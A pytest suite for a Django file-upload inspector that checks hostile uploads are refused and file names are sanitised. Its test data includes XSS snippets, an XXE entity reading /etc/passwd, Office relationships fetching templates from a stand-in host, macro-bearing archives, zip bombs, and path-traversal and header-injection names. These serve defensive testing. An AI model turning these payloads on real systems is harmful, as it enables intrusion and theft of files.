"""Uploads: what comes in is what it says it is; hostile files stay out."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from files.inspection import inspect, safe_name

PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 40
JPEG = b"\xff\xd8\xff\xe0" + b"\x00" * 40


def archive(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as file:
        for name, content in members.items():
            file.writestr(name, content)
    return buffer.getvalue()


CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types><Default Extension="xml" ContentType="application/xml"/></Types>'
)
DOCX = archive({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"<w:document/>"})
XLSX = archive({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": b"<workbook/>"})
PPTX = archive({"[Content_Types].xml": CONTENT_TYPES, "ppt/presentation.xml": b"<p/>"})
ODT_TYPE = b"application/vnd.oasis.opendocument.text"
ODT = archive({"mimetype": ODT_TYPE, "content.xml": b"<x/>"})


def kind_of(content: bytes, name: str) -> str:
    return inspect(io.BytesIO(content), name, len(content)).mimetype


def refusal(content: bytes, name: str, size: int | None = None) -> str:
    with pytest.raises(ValidationError) as caught:
        inspect(io.BytesIO(content), name, len(content) if size is None else size)
    return str(caught.value.code)


@pytest.mark.parametrize(
    ("content", "name", "mimetype"),
    [
        (PDF, "plan.pdf", "application/pdf"),
        (PNG, "kaart.PNG", "image/png"),
        (JPEG, "foto.jpeg", "image/jpeg"),
        (ODT, "brief.odt", ODT_TYPE.decode()),
        ("Beste collega, één vraag".encode(), "vraag.txt", "text/plain"),
        ("naam;aantal\nAssen;3".encode("latin-1"), "lijst.csv", "text/plain"),
        ("\ufeff# Kop".encode(), "notitie.md", "text/plain"),
    ],
    ids=["pdf", "png", "jpeg", "odt", "txt", "csv", "md"],  # the bytes of an archive hold the time
)
def test_accepted(content: bytes, name: str, mimetype: str) -> None:
    assert kind_of(content, name) == mimetype


@pytest.mark.parametrize(
    ("content", "name"),
    [(DOCX, "a.docx"), (XLSX, "a.xlsx"), (PPTX, "a.pptx")],
    ids=["docx", "xlsx", "pptx"],
)
def test_office_documents_are_told_apart(content: bytes, name: str) -> None:
    assert kind_of(content, name).startswith("application/vnd.openxmlformats-officedocument.")
    assert refusal(content, "a.odt") == "wrong_kind"


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (PDF, "foto.png"),
        (PNG, "plan.pdf"),
        (DOCX, "plan.pdf"),
        (b"MZ\x90\x00" + b"\x00" * 60, "plan.pdf"),
        (b"MZ\x90\x01" + b"\x7f" * 60 + b"\x03", "lijst.txt"),
        (PDF, "plan"),
        (PDF, ""),
        (b"gewone tekst", "gewoon.exe"),
        (archive({"a.txt": b"x"}), "bestanden.docx"),
        (archive({"a.txt": b"x"}), "bestanden.zip"),
        (b"\x1f\x8b\x08" + b"abc" * 30, "lijst.txt"),
    ],
)
def test_content_and_name_must_agree(content: bytes, name: str) -> None:
    assert refusal(content, name) == "wrong_kind"


@pytest.mark.parametrize(
    "content",
    [
        b"<!doctype html><script>alert(1)</script>",
        b"\xef\xbb\xbf  \n<HTML><body>",
        b"<!-- x --><script>alert(1)</script>",
        b"<img src=x onerror=alert(1)>",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
        b"<body onload=alert(1)>",
    ],
)
@pytest.mark.parametrize("name", ["notitie.txt", "lijst.csv", "tekst.md"])
def test_a_page_in_the_clothes_of_a_text_stays_out(content: bytes, name: str) -> None:
    assert refusal(content, name) == "wrong_kind"


def test_binary_after_a_long_text_is_no_text() -> None:
    assert refusal(b"regel\n" * 2000 + b"\x00\x01\x02", "lijst.txt") == "wrong_kind"


def test_an_empty_file_says_so() -> None:
    assert refusal(b"", "leeg.pdf") == "empty"


def test_a_file_over_the_limit_says_the_limit(settings) -> None:  # type: ignore[no-untyped-def]
    settings.MAX_UPLOAD_BYTES = 2 * 1024 * 1024
    with pytest.raises(ValidationError, match="2 MB") as caught:
        inspect(io.BytesIO(PDF), "groot.pdf", settings.MAX_UPLOAD_BYTES + 1)
    assert caught.value.code == "too_large"


def test_an_archive_that_unpacks_to_far_more_stays_out() -> None:
    bomb = archive({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"\x00" * (30 * 1024 * 1024)})
    assert len(bomb) < 100_000
    assert refusal(bomb, "plan.docx") == "bomb"


def test_an_archive_of_very_many_files_stays_out() -> None:
    members = {f"word/{number}.xml": b"" for number in range(5001)}
    assert refusal(archive({"[Content_Types].xml": CONTENT_TYPES, **members}), "plan.docx") == "bomb"


@pytest.mark.parametrize(
    "members",
    [
        {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"", "word/vbaProject.bin": b"x"},
        {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"", "word/VBAPROJECT.BIN": b"x"},
        {
            "[Content_Types].xml": b'<Override ContentType="application/vnd.ms-word.document.macroEnabled"/>',
            "word/document.xml": b"",
        },
        {
            "[Content_Types].xml": b'<Override ContentType="application/vnd.ms-office.vbaProject"/>',
            "word/document.xml": b"",
            "word/x.bin": b"x",
        },
        {"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": b"", "xl/macrosheets/sheet1.xml": b""},
        {"mimetype": ODT_TYPE, "content.xml": b"", "Basic/Standard/Module1.xml": b""},
        {"mimetype": ODT_TYPE, "content.xml": b"", "Scripts/python/x.py": b""},
    ],
    ids=["vba", "vba capitals", "docm renamed", "vba renamed", "excel 4 macros", "odt basic", "odt script"],
)  # fmt: skip
def test_macros_stay_out_whatever_the_name(members: dict[str, bytes]) -> None:
    names = " ".join(members)
    name = "plan.odt" if "mimetype" in members else "plan.xlsx" if "xl/" in names else "plan.docx"
    assert refusal(archive(members), name) == "macro"


@pytest.mark.parametrize("keep", [10, 60, len(DOCX) - 30, len(DOCX) - 5])
def test_half_an_archive_is_refused(keep: int) -> None:
    assert refusal(DOCX[:keep], "plan.docx") == "wrong_kind"


def test_an_archive_that_lies_about_its_type_is_refused() -> None:
    assert (
        refusal(archive({"mimetype": b"application/zip", "word/document.xml": b""}), "plan.odt")
        == "wrong_kind"
    )


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\Noor\\plan.pdf", "plan.pdf"),
        ("plan\u202efdp.exe", "planfdp.exe"),
        ("pl\u200ban\u2066.pdf", "plan.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie x.pdf"),
        ('a"b<c>.pdf', "abc.pdf"),
        ("..", "bestand"),
        ("", "bestand"),
        (".htaccess", "htaccess"),
        ("plan van aanpak (é).pdf", "plan van aanpak (é).pdf"),
        ("x" * 300 + ".pdf", "x" * 100 + ".pdf"),
    ],
)
def test_a_name_is_only_a_name(name: str, safe: str) -> None:
    assert safe_name(name) == safe


def test_looking_leaves_the_file_at_its_beginning() -> None:
    upload = SimpleUploadedFile("plan.docx", DOCX)
    inspect(upload, "plan.docx", len(DOCX))  # type: ignore[arg-type]
    assert upload.read() == DOCX


def office(**more: bytes) -> bytes:
    return archive({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"<w:document/>"} | more)


RELATIONS = (
    b'<Relationships><Relationship Type="http://x/%s" Target="%s" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    "xml",
    [
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
        b"<!-- x -->\n<!doctype x SYSTEM 'http://elders.example/x.dtd'><x/>",
        b"<!--" + b"x" * 20_000 + b"--><!DOCTYPE x><x/>",
        '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x><x/>'.encode("utf-16"),
    ],
)
@pytest.mark.parametrize("member", ["word/document.xml", "_rels/.rels", "docProps/app.xml"])
def test_declarations_that_read_other_files_stay_out(xml: bytes, member: str) -> None:
    assert refusal(office(**{member: xml}), "a.docx") == "entities"
    assert refusal(archive({"mimetype": ODT_TYPE, "content.xml": xml}), "a.odt") == "entities"


@pytest.mark.parametrize(
    ("kind", "target", "allowed"),
    [
        (b"attachedTemplate", b"https://elders.example/evil.dotm", False),
        (b"attachedTemplate", b"\\\\elders\\deel\\evil.dotm", False),
        (b"attachedTemplate", b"file:///\\\\elders\\deel\\evil.dotm", False),
        (b"oleObject", b"mhtml:http://elders.example/x!", False),
        (b"frame", b"http://elders.example/x", False),
        (b"attachedTemplate", b"file:///C:\\Users\\Noor\\brief.dotx", True),
        (b"hyperlink", b"https://www.example.nl/", True),
    ],
)
def test_what_is_fetched_on_opening_stays_out(kind: bytes, target: bytes, allowed: bool) -> None:
    content = office(**{"word/_rels/settings.xml.rels": RELATIONS % (kind, target)})
    if allowed:
        assert kind_of(content, "a.docx").endswith("document")
    else:
        assert refusal(content, "a.docx") == "fetches"


def test_a_macro_hides_neither_under_another_name_nor_in_a_document_inside() -> None:
    types = CONTENT_TYPES.replace(b"application/xml", b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    book = archive({"[Content_Types].xml": types, "xl/workbook.xml": b"<x/>", "xl/vbaProject.bin": b"x"})
    assert refusal(book, "a.xlsx") == "macro"
    assert refusal(office(**{"word/embeddings/tabel.xlsx": book}), "a.docx") == "macro"
    assert kind_of(office(**{"word/embeddings/tabel.xlsx": XLSX}), "a.docx").endswith("document")


@pytest.mark.parametrize("name", ["word/embeddings/start.exe", "word/media/x.JS", "word/embeddings/a.docm"])
def test_a_program_inside_stays_out(name: str) -> None:
    assert refusal(office(**{name: b"MZ"}), "a.docx") == "program"


def test_archives_in_archives_go_no_deeper_than_a_table_in_a_report() -> None:
    inside = office(**{"word/embeddings/b.docx": office(**{"word/embeddings/c.docx": DOCX})})
    assert refusal(inside, "a.docx") == "bomb"
    bomb = archive({"[Content_Types].xml": CONTENT_TYPES, "xl/x.xml": b"<x/>" + b" " * 30_000_000})
    assert refusal(office(**{"word/embeddings/b.xlsx": bomb}), "a.docx") == "bomb"


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"GIF89a/*" + DOCX, "a.docx"),
        (b"<html>" + PDF, "a.pdf"),
        (archive({"[Content_Types].xml": CONTENT_TYPES, "sheet.xml": b"<x/>"}), "a.xlsx"),
        (archive({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}), "a.odt"),
    ],
)
def test_what_is_two_things_at_once_is_neither(content: bytes, name: str) -> None:
    assert refusal(content, name) == "wrong_kind"
